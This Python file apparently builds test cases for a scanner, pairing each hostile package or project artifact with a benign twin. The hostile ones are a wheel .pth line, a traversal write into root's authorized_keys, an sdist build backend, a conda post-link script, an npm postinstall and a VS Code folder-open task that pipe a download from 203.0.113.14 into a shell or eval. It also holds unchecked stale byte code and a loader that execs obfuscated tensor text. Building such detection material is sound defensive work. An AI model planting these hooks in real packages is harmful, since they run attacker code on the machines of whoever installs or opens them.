"""Packages and what lies beside models: wheels, sdists, conda, npm, byte code, editor tasks and a loader."""
import base64
import hashlib
import importlib.util
import json
import marshal

from pair import CODE, SHELL
from .craft import floats, safetensors, tarred, zipped

STEAL = "curl -fsS http://203.0.113.14/i.sh | sh"
TOUCH = f"import os; os.system('{SHELL}')"


def wheel(files, name="tinyvision", version="1.2.0"):
    info = f"{name}-{version}.dist-info"
    files = {f"{name}/__init__.py": "__version__ = '1.2.0'\n", f"{name}/weights/base.safetensors": safetensors({"w": ("F32", (8, 8), floats(64))}), **files, f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: Small vision models\n", f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: bdist_wheel 0.43.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    record = ""
    for path, data in files.items():
        data = data.encode() if isinstance(data, str) else data
        record += f"{path},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},{len(data)}\n"
    return zipped({**files, f"{info}/RECORD": record + f"{info}/RECORD,,\n"})


def sdist(backend):
    root = "tinyvision-1.2.0"
    return tarred({
        f"{root}/PKG-INFO": "Metadata-Version: 2.1\nName: tinyvision\nVersion: 1.2.0\n",
        f"{root}/pyproject.toml": '[build-system]\nrequires = ["setuptools>=68"]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n\n[project]\nname = "tinyvision"\nversion = "1.2.0"\n',
        f"{root}/_build/backend.py": backend,
        f"{root}/tinyvision/__init__.py": "",
        f"{root}/tinyvision/base.safetensors": safetensors({"w": ("F32", (8, 8), floats(64))}),
    }, "w:gz")


def conda(script):
    index = {"name": "tinyvision-weights", "version": "1.2.0", "build": "0", "build_number": 0, "depends": [], "subdir": "noarch"}
    return tarred({"info/index.json": json.dumps(index), "info/files": "bin/.tinyvision-weights-post-link.sh\nshare/tinyvision/base.safetensors\n", "bin/.tinyvision-weights-post-link.sh": script, "share/tinyvision/base.safetensors": safetensors({"w": ("F32", (8, 8), floats(64))})}, "w:bz2")


SOURCE = "def scale(x):\n    return x * 0.5\n"


def cached(source):
    """A module and its cached byte code; the cache is marked unchecked, so Python never compares it with the source."""
    code = compile(source, "scaling.py", "exec")
    pyc = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + importlib.util.source_hash(SOURCE.encode()) + marshal.dumps(code)
    return {"scaling.py": SOURCE, "__pycache__/scaling.cpython-311.pyc": pyc, "model.safetensors": safetensors({"w": ("F32", (8, 8), floats(64))})}


LOADER = """\
import json
import struct


def rows(path, name):
    with open(path, "rb") as f:
        size, = struct.unpack("<Q", f.read(8))
        table = json.loads(f.read(size))
        first, last = table[name]["data_offsets"]
        f.seek(8 + size + first)
        return f.read(last - first)


{use}
"""


def loader(use, tensor):
    body = tensor.encode()
    return {"load.py": LOADER.format(use=use), "model.safetensors": safetensors({"fc.weight": ("F32", (8, 8), floats(64)), "fc.meta": ("U8", (len(body),), body)})}


def add(s):
    s.add("packages", "wheel_with_startup_line", wheel({"tinyvision_nspkg.pth": TOUCH + "\n"}), wheel({"tinyvision_nspkg.pth": "tinyvision/vendor\n"}), "10/pth", "tinyvision-1.2.0-py3-none-any.whl",
          why="a .pth file of the wheel runs its import line at each start of Python once the wheel is installed")
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ0j1n0mJ2b0vQz0m0cS8h6c9o4g1d3s5t7u9w1y3a5c build@host\n"
    s.add("packages", "wheel_data_outside_its_scheme", wheel({"tinyvision-1.2.0.data/data/../../../../../../root/.ssh/authorized_keys": key}), wheel({"tinyvision-1.2.0.data/data/share/tinyvision/README": "Sample data.\n"}), None, "tinyvision-1.2.0-py3-none-any.whl",
          why="a data file of the wheel walks out of the installation into root's authorised keys: file write on install, not run")
    backend = "from setuptools.build_meta import *\nfrom setuptools import build_meta as _meta\n\n\ndef get_requires_for_build_wheel(config_settings=None):\n    {}\n    return _meta.get_requires_for_build_wheel(config_settings)\n"
    s.add("packages", "sdist_backend_of_its_own", sdist(backend.format(f"import subprocess; subprocess.run(['sh', '-c', {STEAL!r}])")), sdist(backend.format("print('collecting requirements')")), None, "tinyvision-1.2.0.tar.gz",
          why="the build backend in the archive downloads and runs a script when pip asks what the build needs. Needs the network, not run")
    s.add("packages", "conda_post_link", conda(f"#!/bin/bash\n{STEAL}\n"), conda('#!/bin/bash\necho "weights are in $PREFIX/share/tinyvision" >> "$PREFIX/.messages.txt"\n'), None, "tinyvision-weights-1.2.0-0.tar.bz2",
          why="conda runs the post-link script on install; it pipes a download into a shell. Not run")
    npm = lambda script: {"package.json": json.dumps({"name": "tiny-vision-onnx", "version": "1.2.0", "main": "index.js", "scripts": {"postinstall": script, "test": "node test.js"}, "dependencies": {"onnxruntime-node": "^1.20.0"}}, indent=2), "index.js": "module.exports = require('onnxruntime-node');\n", "onnx/model.safetensors": safetensors({"w": ("F32", (8, 8), floats(64))})}  # noqa: E731
    s.add("packages", "npm_postinstall_beside_weights", npm("node -e \"require('https').get('https://203.0.113.14/p.js',r=>{let d='';r.on('data',c=>d+=c).on('end',()=>eval(d))})\""), npm("node -e \"console.log('tiny-vision-onnx installed')\""), None,
          why="npm runs the script on install; it evaluates what it downloads. Not run")
    s.add("packages", "stale_byte_code", cached(SOURCE + CODE + "\n"), cached(SOURCE), "import",
          why="the cached byte code, marked unchecked, is what Python imports instead of the harmless source beside it")
    tasks = lambda options: {".vscode/tasks.json": json.dumps({"version": "2.0.0", "tasks": [{"label": "prepare", "type": "shell", **options}]}, indent=2), "README.md": "# tiny-vision\n", "model.safetensors": safetensors({"w": ("F32", (8, 8), floats(64))})}  # noqa: E731
    s.add("packages", "editor_task_on_opening", tasks({"command": STEAL, "presentation": {"reveal": "never", "echo": False}, "runOptions": {"runOn": "folderOpen"}}), tasks({"command": "python -m pytest -q", "group": {"kind": "test", "isDefault": True}}), None,
          why="a task hidden from view pipes a download into a shell when the folder is opened in the editor. Needs an editor, not run")
    s.add("packages", "loader_runs_a_tensor", loader("hook = rows('model.safetensors', 'fc.meta').decode()\nvars(__import__('builtins'))[''.join(map(chr, (101, 120, 101, 99)))](hook)", CODE), loader("labels = json.loads(rows('model.safetensors', 'fc.meta').decode())\nprint(len(labels))", '["cat", "dog", "bird"]'), "python",
          why="the loading script beside the weights executes the text held in a tensor")
